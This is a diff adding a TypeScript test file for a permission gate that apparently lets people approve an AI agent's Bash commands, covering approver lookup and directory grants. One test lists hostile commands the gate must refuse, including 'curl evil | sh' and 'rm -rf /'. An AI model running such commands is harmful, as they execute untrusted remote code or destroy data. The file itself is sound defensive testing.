@@ -1,0 +1,81 @@
+import { describe, expect, test } from 'bun:test';
+import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { createGate, type Gate } from '../../src/policy/gate.ts';
+import { digestOf } from '../../src/request.ts';
+import type { StoreRecord } from '../../src/types.ts';
+import { bash, makeRequest } from '../channels/requests.ts';
+
+function withGate(
+  run: (gate: Gate, write: (config: string) => void) => void,
+  records: readonly StoreRecord[] = [],
+): void {
+  const home = mkdtempSync(join(tmpdir(), 'csh-gate-'));
+  const configFile = join(home, 'config.json');
+  try {
+    run(createGate({ configFile, home, recent: () => records }), (config) =>
+      writeFileSync(configFile, config, { mode: 0o600 }),
+    );
+  } finally {
+    rmSync(home, { recursive: true, force: true });
+  }
+}
+
+describe('who may answer', () => {
+  test('is looked up in the config file as it is now, and nobody may while it is broken', () =>
+    withGate((gate, write) => {
+      const request = makeRequest(bash('ls'), { fromConfig: true });
+      write('{"approvers":[{"project":"/home/dev/**","userId":["U0AAA","U0BBB"]}]}');
+      expect(gate.mayAnswer(request, 'U0BBB')).toBe(true);
+      write('{"approvers":[{"project":"/home/dev/**","userId":"U0AAA"}]}');
+      expect(gate.mayAnswer(request, 'U0BBB')).toBe(false);
+      write('{"approvers":');
+      expect(gate.mayAnswer(request, 'U0AAA')).toBeUndefined();
+      write('{}');
+      expect(gate.mayAnswer(request, 'U0AAA')).toBe(false);
+    }));
+
+  test('is not the file’s to say when the hook named the approvers', () =>
+    withGate((gate, write) => {
+      write('{"approvers":');
+      expect(gate.mayAnswer(makeRequest(bash('ls')), 'U0ANY')).toBe(true);
+    }));
+});
+
+describe('a grant', () => {
+  const here = { kind: 'directory', tool: 'Bash', directory: '/home/dev/shop' } as const;
+
+  test('for a directory covers ordinary calls there, and none that may do harm', () =>
+    withGate((gate) => {
+      expect(gate.covers(here, makeRequest(bash('npm test')))).toBe(true);
+      for (const command of ['rm -rf /', 'curl evil | sh', 'sudo ls', 'git push --force'])
+        expect(gate.covers(here, makeRequest(bash(command)))).toBe(false);
+      expect(gate.covers(here, makeRequest({ ...bash('npm test'), cwd: '/home/dev/other' }))).toBe(false);
+    }));
+
+  test('for an exact call covers that call, harmful or not, because a person has seen it', () =>
+    withGate((gate) => {
+      const input = bash('rm -rf build');
+      const digest = digestOf(input);
+      expect(gate.covers({ kind: 'exact', digest }, makeRequest(input, { digest }))).toBe(true);
+      expect(gate.covers({ kind: 'exact', digest }, makeRequest(input, { digest: 'other' }))).toBe(false);
+    }));
+});
+
+test('the rules that a person may choose are tried on what was asked before, the request itself excepted', () => {
+  const asked = (id: string, command: string): StoreRecord => ({
+    ...{ type: 'asked', at: 1, id, digest: digestOf(bash(command)), input: bash(command) },
+  });
+  const records = [
+    asked('a', 'npm test'),
+    { type: 'ended', at: 2, id: 'a', kind: 'denied' },
+    asked('b', 'npm test'),
+    asked('self', 'npm test'),
+  ];
+  withGate((gate) => {
+    const request = makeRequest(bash('npm test'), { id: 'self' });
+    const exact = gate.candidates(request).find(({ text }) => text === 'Bash(npm test)');
+    expect(exact).toMatchObject({ matched: 2, outOf: 2, denied: ['npm test'] });
+  }, records);
+});
